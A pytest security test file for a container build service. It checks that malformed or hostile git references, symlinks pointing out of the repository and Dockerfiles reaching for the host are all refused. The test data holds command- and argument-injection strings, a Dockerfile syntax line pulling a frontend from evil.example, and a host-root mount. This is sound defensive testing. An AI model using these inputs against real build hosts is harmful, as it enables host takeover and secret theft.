"""Git references, and repositories, that are out to have something run on a builder's host."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from hostile.lab import SECRET, HostileLab
from support.tracks import git, make_repository

pytestmark = pytest.mark.e2e

SHA = "0" * 40


@pytest.fixture(scope="module")
def repository(lab: HostileLab) -> Path:
    """Give the bash track's tool a repository, and the lab a builder."""
    make_repository("bash-test-runner", lab.repositories)
    lab.own.worker("builder-1", "builders")
    return lab.repositories / "bash-test-runner"


def build(lab: HostileLab, reference: str) -> tuple[int, str]:
    """Ask for a build; its code, and all that is said of it."""
    message = {"action": "build_container", "track_slug": "bash", "channel": "test_runners"}
    reply = lab.say({**message, "git_reference": reference})
    return reply["status"]["code"], str(reply)


@pytest.mark.parametrize(
    "reference",
    [
        *("--upload-pack=touch MARK", "-u", "$(touch MARK)", "`touch MARK`", "master;touch MARK"),
        *("master\n", "", "../master", "@{-1}", "master^{commit}", "master~1", "master:Dockerfile"),
        *("*", "x" * 256, "master\0", "master\u202e", "master\x9b", ".master", "/master"),
    ],
)
def test_malformed_references_go_nowhere(lab: HostileLab, repository: Path, reference: str) -> None:
    mark = lab.own.folder / "mark"
    code, text = build(lab, reference.replace("MARK", str(mark)))
    assert code == 502, text
    assert not mark.exists()


@pytest.mark.parametrize(
    "reference",
    [
        *("a..b", "master.lock", "a//b", "master/", "master/../master", "master.", SHA, SHA[:7]),
        *("é", "x" * 255, "#master", "_", "@@", "HEAD/", "ORIG_HEAD", "refs/heads/master"),
    ],
)
def test_references_that_name_nothing_are_not_built(
    lab: HostileLab, repository: Path, reference: str
) -> None:
    code, text = build(lab, reference)
    assert code == 400, text


@pytest.fixture
def branch(repository: Path) -> Iterator[str]:
    """Have a branch checked out for a test to commit to, and be built by."""
    name = f"hostile-{len(git(repository, 'branch', '--list').split())}"
    git(repository, "checkout", "--quiet", "-b", name)
    (repository / "Dockerfile").write_text("FROM scratch\nCOPY bin /opt/test-runner/bin\n")
    yield name
    git(repository, "checkout", "--quiet", "master")


@pytest.mark.parametrize("name", ["Dockerfile", "bin"])
def test_a_link_out_of_a_repository_shows_nothing(
    lab: HostileLab, repository: Path, branch: str, name: str
) -> None:
    git(repository, "rm", "-r", "--quiet", "--force", name)
    (repository / name).symlink_to(lab.own.folder / "secret")
    commit(repository)
    code, text = build(lab, branch)
    assert code in (400, 512, 513, 514), text
    assert SECRET not in text


@pytest.mark.parametrize(
    "line", ["# syntax=evil.example/front:1", "FROM scratch\nRUN --mount=src=/,dst=/host true"]
)
def test_a_dockerfile_that_asks_for_the_host_is_refused(
    lab: HostileLab, repository: Path, branch: str, line: str
) -> None:
    file = repository / "Dockerfile"
    file.write_text(f"{line}\n{file.read_text()}")
    commit(repository)
    code, text = build(lab, branch)
    assert code == 400, text
    assert "the Dockerfile asks for" in text


def commit(repository: Path) -> None:
    git(repository, "add", "--all")
    git(repository, "commit", "--quiet", "--message=A wish")
